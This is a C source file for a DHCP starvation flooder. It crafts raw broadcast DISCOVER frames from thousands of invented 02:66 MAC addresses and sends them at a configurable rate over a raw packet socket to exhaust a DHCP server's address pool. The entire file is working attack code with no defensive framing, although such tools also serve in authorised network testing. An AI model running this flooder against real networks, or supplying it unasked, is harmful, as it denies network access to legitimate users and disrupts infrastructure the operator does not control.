// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// A starvation flood: DISCOVERs of invented machines, 02:66:..., COUNT of them, RATE a second, from INTERFACE.
// Prints how many were sent when it is told to end, or has sent all.
#define _GNU_SOURCE 1 /* sendmmsg() */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define FRAME 342 /* Ethernet, IP, UDP, 300 bytes of BOOTP */
#define IP_AT 14
#define UDP_AT 34
#define BOOTP_AT 42
#define CHADDR_AT (BOOTP_AT + 28)
#define OPTIONS_AT (BOOTP_AT + 240)
#define BATCH 64

static volatile sig_atomic_t over;

static void on_signal(int number)
{
	(void)number;
	over = 1;
}

static void put16(uint8_t *at, uint16_t value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static uint16_t ip_checksum(const uint8_t *header)
{
	uint32_t sum = 0;

	for (int i = 0; i < 20; i += 2)
		sum += (uint32_t)header[i] << 8 | header[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* All of a DISCOVER but the machine; UDP checksum 0 is none. */
static void build(uint8_t *frame)
{
	static const uint8_t options[] = { 0x63, 0x82, 0x53, 0x63, 53, 1, 1, 255 };

	memset(frame, 0, FRAME);
	memset(frame, 0xff, 6);
	put16(frame + 12, ETHERTYPE_IP);
	frame[IP_AT] = 0x45;
	put16(frame + IP_AT + 2, FRAME - IP_AT);
	frame[IP_AT + 8] = 64;
	frame[IP_AT + 9] = IPPROTO_UDP;
	memset(frame + IP_AT + 16, 0xff, 4);
	put16(frame + IP_AT + 10, ip_checksum(frame + IP_AT));
	put16(frame + UDP_AT, 68);
	put16(frame + UDP_AT + 2, 67);
	put16(frame + UDP_AT + 4, FRAME - UDP_AT);
	frame[BOOTP_AT] = 1;
	frame[BOOTP_AT + 1] = 1;
	frame[BOOTP_AT + 2] = 6;
	memcpy(frame + OPTIONS_AT - 4, options, sizeof(options));
}

static void name(uint8_t *frame, uint32_t number)
{
	const uint8_t mac[6] = { 0x02,
				 0x66,
				 (uint8_t)(number >> 24),
				 (uint8_t)(number >> 16),
				 (uint8_t)(number >> 8),
				 (uint8_t)number };

	memcpy(frame + 6, mac, 6);
	memcpy(frame + BOOTP_AT + 4, mac + 2, 4);
	memcpy(frame + CHADDR_AT, mac, 6);
}

static int open_interface(const char *interface)
{
	struct sockaddr_ll to = { .sll_family = AF_PACKET,
				  .sll_ifindex = (int)if_nametoindex(interface) };
	int fd = socket(AF_PACKET, SOCK_RAW, 0); /* protocol 0: hears nothing */
	int yes = 1;

	if (fd < 0 || setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof(yes)) ||
	    bind(fd, (struct sockaddr *)&to, sizeof(to))) {
		perror(interface);
		exit(1);
	}
	return fd;
}

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

/* Return: frames sent */
static uint32_t flood(int fd, uint32_t count, double rate)
{
	static uint8_t frames[BATCH][FRAME];
	struct iovec parts[BATCH];
	struct mmsghdr messages[BATCH];
	double began = now();
	uint32_t sent = 0;
	int went;

	memset(messages, 0, sizeof(messages));
	for (int i = 0; i < BATCH; i++) {
		build(frames[i]);
		parts[i] = (struct iovec){ frames[i], FRAME };
		messages[i].msg_hdr.msg_iov = &parts[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	while (!over && sent < count) {
		if (sent > (now() - began) * rate) {
			usleep(500);
			continue;
		}
		for (uint32_t i = 0; i < BATCH; i++)
			name(frames[i], sent + i);
		went = sendmmsg(fd, messages, BATCH, 0);
		if (went < 0 && errno != ENOBUFS && errno != EINTR)
			break;
		sent += went > 0 ? (uint32_t)went : 0;
	}
	return sent;
}

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: flood INTERFACE COUNT RATE\n");
		return 2;
	}
	signal(SIGTERM, on_signal);
	printf("sent: %u\n", flood(open_interface(argv[1]), (uint32_t)strtoul(argv[2], NULL, 10),
				   strtod(argv[3], NULL)));
	return 0;
}
